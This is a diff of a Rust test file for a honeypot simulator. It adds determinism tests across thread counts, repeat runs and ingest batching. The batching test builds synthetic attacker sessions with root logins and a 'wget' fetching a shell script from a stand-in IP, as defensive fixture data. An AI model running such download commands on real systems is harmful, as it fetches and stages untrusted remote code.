@@ -1,8 +1,13 @@
-//! Parallel-execution determinism: `threads = N` must be bit-identical to
-//! `threads = 1` — same session rows in the same order, same digest universe,
-//! same tag database — with the script cache on or off.
+//! Parallel-execution determinism, proven with the testkit's differential
+//! oracles: `threads = N` must be bit-identical to `threads = 1` — same
+//! session rows in the same order, same digest universe, same artifact
+//! metadata, same tag database — within each script-cache setting, and the
+//! collector must be invariant to ingest batching. On divergence the oracle
+//! names the exact field (`rows[i].client_port: 2 != 999`) instead of
+//! failing on an opaque struct comparison.
 
 use honeyfarm::prelude::*;
+use honeyfarm::testkit::{assert_outputs_identical, diff_sim_outputs};
 
 fn run(threads: usize, use_script_cache: bool) -> SimOutput {
     let mut cfg = SimConfig::test(8);
@@ -11,71 +16,72 @@ fn run(threads: usize, use_script_cache: bool) -> SimOutput {
     Simulation::run(cfg)
 }
 
-fn assert_identical(a: &SimOutput, b: &SimOutput) {
-    // Session rows: identical content in identical (plan) order.
-    assert_eq!(a.dataset.len(), b.dataset.len());
-    let rows_equal = a
-        .dataset
-        .sessions
-        .rows()
-        .iter()
-        .zip(b.dataset.sessions.rows())
-        .all(|(x, y)| x == y);
-    assert!(rows_equal, "rows must match in content and order");
-    assert_eq!(a.n_clients, b.n_clients);
-
-    // Digest universe (sorted: the pool's intern order is an implementation
-    // detail of the store, the set of hashes is the invariant).
-    let digests = |out: &SimOutput| {
-        let mut v: Vec<_> = out
-            .dataset
-            .sessions
-            .digests
-            .iter()
-            .map(|(_, d)| d)
-            .collect();
-        v.sort();
-        v
-    };
-    assert_eq!(digests(a), digests(b));
-
-    // Artifact metadata, including ingest-order-sensitive first_seen.
-    assert_eq!(a.dataset.artifacts.len(), b.dataset.artifacts.len());
-    for (_, d) in a.dataset.sessions.digests.iter() {
-        let ma = a.dataset.artifacts.get(&d).expect("artifact in a");
-        let mb = b.dataset.artifacts.get(&d).expect("artifact in b");
-        assert_eq!(ma.first_seen, mb.first_seen, "first_seen for {d:?}");
-        assert_eq!(ma.occurrences, mb.occurrences);
-    }
-
-    // Tag database: same associations, including first-wins resolution.
-    assert_eq!(a.tags.len(), b.tags.len());
-    for (h, e) in a.tags.iter() {
-        assert_eq!(b.tags.tag(h), Some(e.tag.as_str()), "tag for {h:?}");
-        assert_eq!(
-            b.tags.campaign(h),
-            Some(e.campaign.as_str()),
-            "campaign for {h:?}"
-        );
-    }
-}
-
 #[test]
-fn four_threads_bit_identical_to_one() {
+fn thread_counts_bit_identical() {
     let serial = run(1, false);
     assert!(serial.dataset.len() > 100, "fixture must be non-trivial");
-    let parallel = run(4, false);
-    assert_identical(&serial, &parallel);
+    for threads in [2usize, 8] {
+        let parallel = run(threads, false);
+        assert_outputs_identical(
+            "threads=1",
+            &serial,
+            &format!("threads={threads}"),
+            &parallel,
+        );
+    }
 }
 
 #[test]
 fn four_threads_bit_identical_to_one_with_script_cache() {
     let serial = run(1, true);
     let parallel = run(4, true);
-    assert_identical(&serial, &parallel);
+    assert_outputs_identical("threads=1+cache", &serial, "threads=4+cache", &parallel);
 }
 
 #[test]
-fn two_threads_bit_identical_to_one() {
-    assert_identical(&run(1, false), &run(2, false));
+fn repeat_runs_bit_identical() {
+    // Same config, fresh process state: the engine has no hidden
+    // nondeterminism (hash-map iteration, time, &c.).
+    let report = diff_sim_outputs("first", &run(1, false), "second", &run(1, false));
+    assert!(report.is_identical(), "{}", report.render());
+}
+
+#[test]
+fn collector_invariant_to_ingest_batching() {
+    // Replay a spread of scenarios into session records, then collect them
+    // one-by-one and in uneven chunks; the resulting dataset must be
+    // identical either way.
+    use honeyfarm::geo::{World, WorldConfig};
+    use honeyfarm::testkit::{diff_datasets, Scenario};
+
+    let mut records = Vec::new();
+    for i in 0..24u32 {
+        let text = format!(
+            "name batch-{i}\nprotocol {}\nhoneypot {}\nclient 203.0.113.{}\nport {}\n\
+             login root pw{i}\ncmd uname -a\ncmd wget http://198.51.100.9/x{i}.sh\nclose\n",
+            if i % 3 == 0 { "telnet" } else { "ssh" },
+            i % 5,
+            (i % 200) + 1,
+            40_000 + i as u16,
+        );
+        records.push(Scenario::parse(&text).expect("scenario").replay());
+    }
+
+    let world = World::build(1, &WorldConfig::tiny());
+    let collect = |chunks: &[usize]| {
+        let mut c = Collector::new(&world, FarmPlan::paper());
+        let mut i = 0usize;
+        let mut sizes = chunks.iter().cycle();
+        while i < records.len() {
+            let n = (*sizes.next().unwrap()).min(records.len() - i).max(1);
+            c.ingest_batch(&records[i..i + n]);
+            i += n;
+        }
+        c.finish()
+    };
+
+    let one_by_one = collect(&[1]);
+    let uneven = collect(&[3, 1, 16, 7, 2]);
+    let report = diff_datasets("one-by-one", &one_by_one, "uneven", &uneven);
+    assert!(report.is_identical(), "{}", report.render());
 }
